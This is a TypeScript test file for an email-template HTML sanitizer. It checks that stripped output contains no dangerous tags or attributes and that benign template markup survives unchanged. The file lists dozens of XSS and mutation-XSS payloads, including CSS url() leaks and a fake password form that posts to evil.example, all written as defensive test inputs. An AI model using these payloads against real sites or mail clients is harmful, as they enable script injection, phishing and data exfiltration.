import { JSDOM } from 'jsdom';
import { MAX_REMOVED, cleanHtml } from './html';

// Parses the HTML of a mail as a browser does.
function parsed(html: string) {
  return new JSDOM(`<!doctype html><body><div id="mail">${html}</div>`).window.document;
}

const LOADS = /url\s*\(|expression|@import|\\|javascript:|behavior|position/i;

// What a mail must not contain, also outside of #mail: the content must not close that element.
function dangersIn(html: string): string[] {
  const document = parsed(html);
  const elements = [...document.querySelectorAll('head > *, body > :not(#mail), #mail *')];
  return elements.flatMap((element) => [
    ...(/^(script|style|iframe|object|embed|form|input|button|textarea|select|link|meta|base|svg|math|template)$/i.test(
      element.tagName,
    )
      ? [element.tagName]
      : []),
    ...[...element.attributes].flatMap(({ name, value }) => {
      const isRefused =
        name.startsWith('on') ||
        ['id', 'class', 'srcset', 'background', 'target', 'action', 'formaction'].includes(name) ||
        (name === 'href' && !/^(https?:\/\/|mailto:|tel:|\{)/i.test(value)) ||
        (name === 'src' && !/^(https:\/\/|data:image\/(png|jpeg|gif|webp);base64,|\{)/i.test(value)) ||
        (name === 'style' && LOADS.test(value));
      return isRefused ? [`${element.tagName} ${name}=${value}`] : [];
    }),
  ]);
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<p onclick="alert(1)" id=root class=ant-btn>覆盖</p>',
  '<a href="javascript:alert(1)">点</a>',
  '<a href=" \u0001java\tscript:alert(1)">点</a>',
  '<a href="&#106;avascript&colon;alert(1)">点</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点</a>',
  '<a href="vbscript:msgbox(1)">点</a>',
  '<a href="//evil.example">点</a>',
  '<a href="/relative">点</a>',
  '<a href="java{甲}script:alert(1)">点</a>',
  '<a href="https://bank.example{甲}">点</a>',
  '<a href="https://{甲}.example/">点</a>',
  '<img src="http://tracker.example/a.gif">',
  '<img src="//tracker.example/a.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html;base64,PHN2Zz4=">',
  '<img srcset="https://evil.example/a.png 1x" src="cid:1">',
  '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
  '<p style="background:url(https://evil.example/?leak)">x</p>',
  '<p style="background-image:url(\'https://evil.example/\')">x</p>',
  '<p style="position:fixed;inset:0;z-index:9">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:\\75rl(https://evil.example)">x</p>',
  '<p style="color:{甲}">x</p>',
  '<p style="color:red;};@import url(//evil.example)">x</p>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password><button>登录</button></form>',
  '<style>body{background:url(https://evil.example/?leak)}</style>',
  '<!--[if mso]><img src=x onerror=alert(1)><![endif]-->',
  '</div></body><script>alert(1)</script>',
  '<b>'.repeat(500) + '<img src=x onerror=alert(1)>' + '</b>'.repeat(500),
  '\u0000<scr\u0000ipt>alert(1)</script>',
];

describe('[CHN-05] hostile HTML of a template', () => {
  it.each(HOSTILE)('%s comes to nothing', (hostile) => {
    for (const written of [hostile, `<p>前</p>${hostile}<p>后</p>`, `<table><tr><td>${hostile}</td></tr></table>`]) {
      const { html } = cleanHtml(written);
      expect(dangersIn(html)).toEqual([]);
      // A second save neither changes the text nor brings something back.
      expect(cleanHtml(html)).toEqual({ html, removed: [] });
    }
  });

  it.each([
    'https://bank.example{甲}',
    'https://{甲}.example/',
    'https://user:{甲}@bank.example/',
    'http{甲}://x.example/',
  ])('has no link whose host a value would decide: %s', (address) => {
    expect(cleanHtml(`<a href="${address}">点</a>`)).toEqual({ html: '<a>点</a>', removed: ['href'] });
  });

  it('is what the check of these tests finds', () => {
    for (const hostile of ['<img src=x>', '<p onclick=x>', '<a href="javascript:x">', '<p style="x:url(y)">', '<form>'])
      expect(dangersIn(hostile)).not.toEqual([]);
  });

  it('is named, each thing once and not without end', () => {
    const { removed } = cleanHtml('<p onclick="a">x</p><p onclick="b" style="position:fixed">y</p><script>z</script>');
    expect(removed).toEqual(['onclick', 'style', '<script>']);
    const many = Array.from({ length: 90 }, (_, index) => `<x${String(index)}${'y'.repeat(99)}>`).join('');
    const named = cleanHtml(many).removed;
    expect(named).toHaveLength(MAX_REMOVED);
    expect(Math.max(...named.map(({ length }) => length))).toBeLessThanOrEqual(30);
    // The frame of a page is nothing that a merchant misses.
    expect(cleanHtml('<!doctype html><html><head><title>t</title></head><body><p>x</p></body></html>')).toEqual({
      html: '<p>x</p>',
      removed: [],
    });
  });
});

describe('[CHN-05] the HTML of a template', () => {
  it.each([
    '<h2 style="color:#1677ff;text-align:center">标题</h2><p>一<strong>二</strong><br />三</p>',
    '<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff"><tr><td align="center">{姓名}</td></tr></table>',
    '<a href="https://portal.example/bill?no={编号}&amp;of=1" style="padding:8px 16px;background:rgb(0, 0, 0)">查看</a>',
    '<a href="{链接}">重置密码</a><a href="mailto:help@example.com">邮件</a>',
    '<img src="https://portal.example/logo.png" alt="{公司}" width="120" />',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" />',
    `<p style="font-family:'Microsoft YaHei', sans-serif;margin-top:1.5em">文 &lt;b&gt; &amp;</p>`.replaceAll(
      "'",
      '&quot;',
    ),
  ])('keeps %s', (html) => {
    expect(cleanHtml(html)).toEqual({ html, removed: [] });
  });
});
